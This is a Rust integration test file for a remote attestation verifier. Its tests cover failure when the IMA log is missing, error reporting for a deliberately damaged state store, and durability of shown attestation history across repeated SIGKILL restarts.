#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_runtime_policy_fails_an_agent_without_an_ima_log() -> Result<()> {
    // IMA off on the machine: the list the agent is told to serve does not exist.
    let mut extra = toml::Table::new();
    extra.insert("ima_ml_path".into(), "/nonexistent/ascii_runtime_measurements".into());
    let Some(sys) = System::start_with(extra, &[], toml::Table::new(), true)? else {
        return Ok(());
    };
    sys.apply_policy("base")?;
    let (code, doc) =
        sys.kctl_json(&["agents", "enroll", &sys.agent_id, "--runtime-policy", "base", "--wait"])?;
    assert_eq!(code, 1, "enroll --wait ends failed: {doc}");
    let failed = sys.wait_state("failed")?;
    let findings = failed["last_verdict"]["findings"].as_array().cloned().unwrap_or_default();
    assert!(findings.iter().any(|f| f["rule"] == "ima.log_missing"), "{findings:?}");
    assert!(
        sys.agent.daemon.output().contains("no IMA measurement list"),
        "the agent says so too: {}",
        sys.agent.daemon.output()
    );
    Ok(())
}

/// `keylime_verifier --check-store` with the verifier's own config.
fn check_verifier_store(sys: &System) -> Result<Output> {
    Ok(Command::new(daemon::binary(daemon::VERIFIER)?)
        .arg("--config")
        .arg(sys.verifier.config())
        .arg("--check-store")
        .env("TSS2_LOG", "all+NONE")
        .output()?)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_damaged_store_stops_the_verifier_with_one_line_and_the_check_reports_it() -> Result<()> {
    let Some(mut sys) = System::start()? else { return Ok(()) };
    sys.apply_policy("base")?;
    let (code, _) =
        sys.kctl_json(&["agents", "enroll", &sys.agent_id, "--runtime-policy", "base", "--wait"])?;
    assert_eq!(code, 0);
    sys.verifier.stop()?;
    let store = sys.deployment.keylime_dir().join("verifier.redb");

    let sound = check_verifier_store(&sys)?;
    let stdout = String::from_utf8_lossy(&sound.stdout);
    assert_eq!(sound.status.code(), Some(0), "{}", String::from_utf8_lossy(&sound.stderr));
    assert_eq!(stdout.lines().count(), 1, "{stdout}");
    assert!(stdout.starts_with(&format!("{}: sound: ", store.display())), "{stdout}");
    assert!(stdout.contains("agents 1,"), "{stdout}");

    let damaged_pages = kl_tests::damage::pages_holding(&store, sys.agent_id.as_bytes())?;
    assert!(damaged_pages > 0, "the store holds the agent");
    let length = std::fs::metadata(&store)?.len();

    sys.verifier.start_again()?;
    let status = sys.verifier.wait_exit(daemon::START_TIMEOUT)?;
    let output = sys.verifier.output();
    assert_eq!(status.code(), Some(78), "a restart cannot help: {output}");
    let lines: Vec<&str> = output.lines().collect();
    assert_eq!(lines.len(), 1, "one line on stderr: {output}");
    let expected = format!(
        "keylime_verifier: state store: {}: the verifier store is damaged (",
        store.display()
    );
    assert!(lines[0].starts_with(&expected), "{output}");
    assert!(lines[0].contains("restore it from a backup"), "{output}");
    assert!(lines[0].contains("`keylime_verifier --check-store`"), "{output}");
    assert!(!output.contains("panicked") && !output.contains("RUST_BACKTRACE"), "{output}");
    // Nothing started on an empty store: the damaged file is still there, as it was.
    assert_eq!(std::fs::metadata(&store)?.len(), length);

    let damaged = check_verifier_store(&sys)?;
    let stderr = String::from_utf8_lossy(&damaged.stderr);
    assert_eq!(damaged.status.code(), Some(1), "{stderr}");
    assert!(damaged.stdout.is_empty());
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(
        stderr.starts_with(&format!("keylime_verifier: {}: damaged (", store.display())),
        "{stderr}"
    );
    assert!(stderr.contains("restore the file from a backup"), "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
    Ok(())
}

/// An RFC 3339 UTC time as kctl prints it, in a form that compares in time order (the
/// fraction of a second has as many digits as it needs).
fn time_key(value: &Value) -> Option<(String, String)> {
    let text = value.as_str()?.strip_suffix('Z')?;
    let (seconds, fraction) = text.split_once('.').unwrap_or((text, ""));
    Some((seconds.to_owned(), format!("{fraction:0<9}")))
}

/// What `kctl agents show` and `kctl agents attestations` showed of an agent that a crash
/// must not take back.
#[derive(Debug)]
struct Shown {
    count: u64,
    last_attestation_at: Option<(String, String)>,
    last_success_at: Option<(String, String)>,
    verdict_at: Option<(String, String)>,
    newest_sequence: u64,
}

impl System {
    /// The history first: listing it commits what is queued, and the agent's status shown
    /// last (just before a kill) must be durable by itself.
    fn shown(&self) -> Result<Shown> {
        let (code, history) =
            self.kctl_json(&["agents", "attestations", &self.agent_id, "--limit", "1"])?;
        if code != 0 {
            return Err(err(format!("kctl agents attestations exited {code}: {history}")));
        }
        let agent = self.show()?;
        Ok(Shown {
            count: agent["attestation_count"]
                .as_u64()
                .ok_or_else(|| err(format!("no count: {agent}")))?,
            last_attestation_at: time_key(&agent["last_attestation_at"]),
            last_success_at: time_key(&agent["last_success_at"]),
            verdict_at: time_key(&agent["last_verdict"]["at"]),
            newest_sequence: history["attestations"][0]["sequence"].as_u64().unwrap_or(0),
        })
    }
}

/// The verifier killed with SIGKILL while an agent passes every 0.3 s, three times: after each
/// restart, what kctl showed just before the kill (count, times, history numbers) is still
/// shown, and numbering goes on after it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_killed_verifier_takes_back_nothing_it_showed() -> Result<()> {
    let mut quick = toml::Table::new();
    quick.insert("quote_interval".into(), 0.3.into());
    let Some(mut sys) = System::start_with(toml::Table::new(), &[], quick, true)? else {
        return Ok(());
    };
    sys.apply_policy("base")?;
    let (code, _) =
        sys.kctl_json(&["agents", "enroll", &sys.agent_id, "--runtime-policy", "base", "--wait"])?;
    assert_eq!(code, 0);
    let mut floor = 0;
    for cycle in 1..=3 {
        // Several routine rounds since the last start, so that the stored entry lags behind.
        let target = floor + 6;
        sys.wait(|s| Ok(s.show()?["attestation_count"].as_u64() >= Some(target)), "passes")?;
        let before = sys.shown()?;
        sys.verifier.kill()?;
        sys.verifier.start_again()?;
        sys.verifier.wait_listening()?;
        let after = sys.shown()?;
        assert!(after.count >= before.count, "cycle {cycle}: {before:?} -> {after:?}");
        assert!(after.last_attestation_at >= before.last_attestation_at, "{before:?} -> {after:?}");
        assert!(after.last_success_at >= before.last_success_at, "{before:?} -> {after:?}");
        assert!(after.verdict_at >= before.verdict_at, "{before:?} -> {after:?}");
        assert!(after.newest_sequence >= before.newest_sequence, "{before:?} -> {after:?}");
        assert!(before.last_success_at.is_some() && before.newest_sequence > 0, "{before:?}");
        floor = after.count;
    }
    // Rounds after the last restart are numbered on, none reused.
    let last = sys.shown()?.newest_sequence;
    sys.wait(|s| Ok(s.shown()?.newest_sequence > last), "a round after the restart")?;
    assert_eq!(sys.show()?["state"], "passed");
    Ok(())
}

mod payload;
